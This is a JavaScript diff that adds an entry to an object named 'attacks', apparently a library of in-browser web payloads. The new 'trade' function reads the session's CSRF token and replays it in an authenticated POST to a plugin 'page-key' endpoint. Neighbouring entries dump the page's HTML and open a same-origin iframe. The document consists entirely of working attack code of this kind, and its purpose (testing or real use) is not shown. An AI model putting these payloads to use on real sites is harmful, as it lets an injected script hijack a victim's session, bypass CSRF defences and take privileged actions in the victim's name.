@@ -134,6 +134,12 @@ const attacks = {
       request.addEventListener('loadend', () => resolve(request.responseText));
       request.send();
     }),
+  trade: async (boot) => {
+    const { csrf_token } = await (await fetch('/auth/session')).json();
+    const headers = { 'Content-Type': 'application/json', 'X-CSRF-Token': csrf_token };
+    const answer = await fetch('/api/plugins/page-key', { method: 'POST', headers, body: JSON.stringify({ boot }) });
+    return { status: answer.status, code: (await answer.json()).code };
+  },
   here: () => document.documentElement.outerHTML,
   iframe: async () => {
     const frame = Object.assign(document.createElement('iframe'), { src: '/' });
